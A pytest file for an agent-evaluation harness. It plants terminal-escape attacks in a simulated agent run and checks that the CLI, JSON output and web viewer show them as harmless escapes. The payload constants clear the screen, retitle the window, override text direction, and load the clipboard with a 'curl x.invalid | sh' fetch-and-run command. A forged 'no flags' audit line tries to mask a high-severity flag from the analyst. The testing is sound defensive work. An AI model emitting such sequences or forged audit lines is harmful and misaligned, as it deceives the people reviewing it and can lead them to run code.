"""The analyst's terminal and pages show what the agent wrote, and obey none of it.

One real run (the real server, the local sandbox) writes terminal attacks everywhere a command
quotes the agent: a job's command and output, a file's name and content, a checkpoint path
(its submission refused, with an error quoting it), and the audit quotes a line of that file:
ESC[2J ESC[3J ESC[H (clear the screen and its scrollback, cursor home) and a forged head,
OSC 52 (set the clipboard), OSC 0 (retitle the window), a one-byte C1 CSI, a carriage return
that overwrites a line, and U+202E (right-to-left override). The agent and driver names are
made hostile in the store as an imported archive could make them.

Each command's output is fed to `pyte`, a terminal emulator, and the screen afterwards must
show exactly the lines printed (nothing moved the cursor or cleared anything), each attack as
its visible escape, and the high flag; no window title is set and no control or bidi byte
reaches the terminal at all. `--json` keeps the hostile text as exact data. The viewer's pages
carry no raw control or bidi character.
"""

from __future__ import annotations

import base64
import json
import logging
import os
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client
from sqlmodel import select
from typer.testing import CliRunner

from a2rl.cli import app
from a2rl.display import printable
from a2rl.server import build_server, create_run, finish_run
from a2rl.settings import Settings
from a2rl.store import Run, Store, Submission

from ..audit_guard import expect_cheating
from ..conftest import require, require_bwrap

pytestmark = pytest.mark.timeout(300)

CLEAR = "\x1b[2J\x1b[3J\x1b[H"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl x.invalid | sh").decode() + "\x07"
TITLE = "\x1b]0;all clear\x07"
C1_CSI = "\x9b2J"
RLO = "\u202e"
#: a whole attack: clear everything, retitle, set the clipboard, then a forged head
ATTACK = f"{CLEAR}{TITLE}{CLIPBOARD}{C1_CSI}{RLO}gnp.txt"
FORGED = "run {run}: no flags (audit v1)"
#: a line the carriage return would write over with spaces, were it obeyed
OVERWRITE = "HIGH flag here\r               "
# No slash and no quote: a path component the shell command below quotes with '.
NAME = f"n{CLEAR}{RLO}exe.py"
COMMAND = (f"mkdir -p 'output/{NAME}'; echo '{{}}' > 'output/{NAME}/config.json'; "
           f"echo '{ATTACK}'; echo '{OVERWRITE}' >&2; true '{ATTACK}'")
HOSTILE_AGENT = f"a{CLEAR}{RLO}"
HOSTILE_DRIVER = f"d{TITLE}{CLIPBOARD}"

#: every character a terminal or a page acts on (a2rl.display's list), as a set
ACTIVE = {chr(c) for c in (*range(0x20), *range(0x7F, 0xA0), 0x061C, 0x200E, 0x200F,
                           *range(0x202A, 0x202F), *range(0x2066, 0x206A))} - {"\t", "\n"}


@pytest.fixture(autouse=True)
def _keep_logging() -> Iterator[None]:
    """The CLI sets the root logger and A2RL_LOG_LEVEL per command: not past the test."""
    root, level = logging.getLogger(), logging.getLogger().level
    saved = os.environ.get("A2RL_LOG_LEVEL")
    yield
    root.setLevel(level)
    os.environ.pop("A2RL_LOG_LEVEL", None)
    if saved is not None:
        os.environ["A2RL_LOG_LEVEL"] = saved


@pytest.fixture(scope="module")
def hostile(a2rl_home: Path, tmp_path_factory: pytest.TempPathFactory
            ) -> Iterator[tuple[Settings, Store, str]]:
    require_bwrap()
    db = tmp_path_factory.mktemp("terminal") / "a2rl.db"
    settings = Settings(home=a2rl_home, db_url=f"sqlite:///{db}")
    store = Store(settings.database_url)
    run = create_run(settings, store, task_id="fixture", budget="30m", baseline=False).run

    async def agent() -> None:
        server = build_server(settings, store, run_id=run.id, transport="memory")
        async with Client(server, mode="legacy") as c:
            args = {"path": f"code/{NAME}", "new_text": f"{ATTACK}{FORGED}\n{OVERWRITE}\n"}
            assert not (await c.call_tool("edit_file", args)).is_error
            r = await c.call_tool("run_command", {"command": COMMAND, "wait_s": 30})
            assert r.structured_content.get("exit_code") == 0, r
            await c.call_tool("submit_checkpoint", {"path": f"output/{NAME}", "note": ATTACK})

    try:
        anyio.run(agent)
    finally:
        finish_run(settings, store, run.id)
    _hostile_names_and_audit(store, run.id)
    expect_cheating(db.parent, run.id)  # the audit's high flag below is the point
    yield settings, store, run.id
    store.close()


def _hostile_names_and_audit(store: Store, run_id: str) -> None:
    """The agent and driver names an imported archive could carry, and an audit whose high
    flag quotes the file's line (ESC[2J ESC[3J ESC[H and a head saying "no flags")."""
    from a2rl.audit import AuditReport, Evidence, Flag, Severity, save_audit
    from a2rl.audit.run import AUDIT_VERSION

    with store.session() as s:
        run = s.get(Run, run_id)
        assert run is not None
        run.agent, run.driver_model = HOSTILE_AGENT, HOSTILE_DRIVER
        s.add(run)
    save_audit(store, AuditReport(
        run_id=run_id, audit_version=AUDIT_VERSION, computed_at=datetime.now(UTC),
        flags=[Flag(kind="contamination", severity=Severity.high,
                    finding=f"hidden test items in code/{NAME}",
                    evidence=Evidence(paths=[f"code/{NAME}"], excerpts=[
                        f"{ATTACK}{FORGED.format(run=run_id)}", OVERWRITE]))]))


def _cli(settings: Settings, *args: str) -> Any:
    env: dict[str, str | None] = {k: None for k in os.environ if k.startswith("A2RL_")}
    env.update(A2RL_HOME=str(settings.home), A2RL_DB_URL=settings.database_url, COLUMNS="200")
    return CliRunner().invoke(app, list(args), env=env)


def _screen(output: bytes) -> Any:
    """`output` as a terminal shows it (newline also returns the carriage, as a tty's
    ONLCR does): the emulated screen, large enough that nothing scrolls or wraps."""
    pyte = pytest.importorskip("pyte") if os.environ.get("CI") != "true" else __import__("pyte")
    text = output.decode("utf-8", errors="replace")
    lines = text.split("\n")
    screen = pyte.Screen(max(80, *(len(x.expandtabs()) + 1 for x in lines)), len(lines) + 2)
    pyte.ByteStream(screen).feed(output.replace(b"\n", b"\r\n"))
    return screen


def _shows_exactly(output: bytes) -> list[str]:
    """The screen after `output`: each line printed, where it was printed, as it was printed;
    no window title; no byte a terminal acts on. Returns the screen's lines."""
    text = output.decode("utf-8")
    assert not ACTIVE & set(text), sorted(ACTIVE & set(text))
    screen = _screen(output)
    shown = [line.rstrip() for line in screen.display]
    printed = [line.expandtabs().rstrip() for line in text.split("\n")]
    assert shown[:len(printed)] == printed
    assert not screen.title and not screen.icon_name
    return shown


def _attacks_visible(shown: list[str], *attacks: str) -> None:
    screen = "\n".join(shown)
    for attack in attacks:
        assert printable(attack, one_line=True).rstrip() in screen, (attack, screen)


def test_the_record_holds_the_attacks(hostile: tuple[Settings, Store, str]) -> None:
    """Else the other tests prove nothing."""
    from a2rl.store import Job, Revision

    _, store, run_id = hostile
    with store.session() as s:
        assert any(ATTACK in j.command for j in s.exec(select(Job).where(Job.run_id == run_id)))
        assert any(NAME in r.path for r in s.exec(select(Revision)
                                                  .where(Revision.run_id == run_id)))
        sub = s.exec(select(Submission).where(Submission.run_id == run_id)).one()
        assert NAME in sub.path and sub.error


def test_show_runs_and_compare_screens(hostile: tuple[Settings, Store, str]) -> None:
    settings, _, run_id = hostile
    shown = _shows_exactly(_cli(settings, "show", run_id).stdout_bytes)
    assert shown[0].startswith(f"run {run_id}")
    assert any("FLAGGED: 1 high-severity flags" in line for line in shown)
    _attacks_visible(shown, HOSTILE_AGENT, HOSTILE_DRIVER, NAME[:30])
    assert any("\\x1b[2J\\x1b[3J\\x1b[H" in line and line.lstrip().startswith("j")
               for line in shown)  # the job's command
    for command in (["runs"], ["compare", run_id]):
        result = _cli(settings, *command)
        assert result.exit_code == 0, result.output
        shown = _shows_exactly(result.stdout_bytes)
        assert any(line.startswith(run_id[:13]) for line in shown), shown
        _attacks_visible(shown, HOSTILE_AGENT[:5])


def test_audit_screen_keeps_the_high_flag_above_a_forged_head(
        hostile: tuple[Settings, Store, str]) -> None:
    settings, _, run_id = hostile
    result = _cli(settings, "audit", run_id)
    assert result.exit_code == 1
    shown = _shows_exactly(result.stdout_bytes)
    assert shown[0].startswith(f"run {run_id}: 1 flags, 1 high") and "FLAGGED" in shown[0]
    assert shown[1].split()[:2] == ["high", "contamination"]
    _attacks_visible(shown, ATTACK + FORGED.format(run=run_id), OVERWRITE)
    # the forged head is quoted inside an excerpt line, never a line of its own
    assert not any(line.startswith(f"run {run_id}: no flags") for line in shown)
    assert any("HIGH flag here\\r" in line for line in shown)


def test_report_and_export_screens(hostile: tuple[Settings, Store, str],
                                   tmp_path: Path) -> None:
    settings, _, run_id = hostile
    result = _cli(settings, "report", run_id, "--format", "md")
    assert result.exit_code == 0, result.output
    shown = _shows_exactly(result.stdout_bytes)
    assert shown[0] == f"# Run report: {run_id}"
    assert "\\x1b]52;c;" in "\n".join(shown) and "\\u202e" in "\n".join(shown)
    for fmt in ("md", "html"):  # a file a page shows: the renderers' own seams
        written = tmp_path / f"report.{fmt}"
        assert _cli(settings, "report", run_id, "--format", fmt, "--out", str(written)
                    ).exit_code == 0
        text = written.read_text()
        assert not ACTIVE & set(text) and "\\u202e" in text, fmt
    out = tmp_path / f"x{CLEAR}{RLO}.tar.gz"
    result = _cli(settings, "export", run_id, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert out.is_file()
    shown = _shows_exactly(result.stdout_bytes)
    assert shown[0].startswith("wrote ") and "\\x1b[2J" in shown[0]


def test_error_lines_quote_input_as_escapes(hostile: tuple[Settings, Store, str]) -> None:
    settings, _, run_id = hostile
    result = _cli(settings, "report", run_id, "--out", f"/nonexistent{CLEAR}{TITLE}/r.md")
    assert result.exit_code == 2
    shown = _shows_exactly(result.stderr_bytes)
    assert shown[0].startswith("a2rl: --out /nonexistent\\x1b[2J") and len(shown[0]) > 40


def test_json_keeps_the_attacks_as_exact_data(hostile: tuple[Settings, Store, str]) -> None:
    """`--json` is data: the hostile names come back exactly, written as JSON escapes (so
    the document itself is inert on a terminal too)."""
    settings, _, run_id = hostile
    for args, pick in ((["show", run_id, "--json"], lambda d: d),
                       (["runs", "--json"], lambda d: d[0]),
                       (["report", run_id, "--format", "json"], lambda d: d["summary"])):
        result = _cli(settings, *args)
        assert result.exit_code == 0, result.output
        raw = result.stdout_bytes.decode()
        assert not ACTIVE & set(raw), args
        doc = pick(json.loads(raw))
        assert doc["agent"] == HOSTILE_AGENT, args
    doc = json.loads(_cli(settings, "audit", run_id, "--json").stdout_bytes)
    assert doc["flags"][0]["evidence"]["excerpts"][1] == OVERWRITE


def test_viewer_pages_hold_no_raw_control_or_bidi(hostile: tuple[Settings, Store, str]
                                                  ) -> None:
    from starlette.testclient import TestClient

    from a2rl.analysis.web import create_app
    from a2rl.store import Job, Revision, ToolCall

    settings, store, run_id = hostile
    with store.session() as s:
        jobs = s.exec(select(Job.id).where(Job.run_id == run_id)).all()
        call_ids = s.exec(select(ToolCall.id).where(ToolCall.run_id == run_id)).all()
        revisions = s.exec(select(Revision.id).where(Revision.run_id == run_id)).all()
    pages = ["/", f"/run/{run_id}", f"/run/{run_id}/report", f"/run/{run_id}/activity",
             f"/run/{run_id}/jobs", f"/run/{run_id}/revisions", f"/run/{run_id}/conversation",
             f"/compare?run={run_id}&run={run_id}"]
    pages += [f"/run/{run_id}/job/{j}" for j in jobs]
    pages += [f"/run/{run_id}/call/{c}" for c in call_ids]
    pages += [f"/run/{run_id}/revision/{r}" for r in revisions]
    seen = ""
    with TestClient(create_app(settings.database_url)) as client:
        for page in pages:
            resp = client.get(page)
            assert resp.status_code in (200, 400), (page, resp.status_code)
            text = resp.text
            if resp.headers["content-type"].startswith("application/json"):
                text = "".join(v for v in resp.json().values() if isinstance(v, str))
            assert not ACTIVE & set(text.replace("\r\n", "\n")), (page, ACTIVE & set(text))
            seen += text
    assert "\\u202e" in seen and "\\x1b[2J" in seen  # shown, not dropped
    require(bool(jobs and revisions), "the run made a job and a revision")
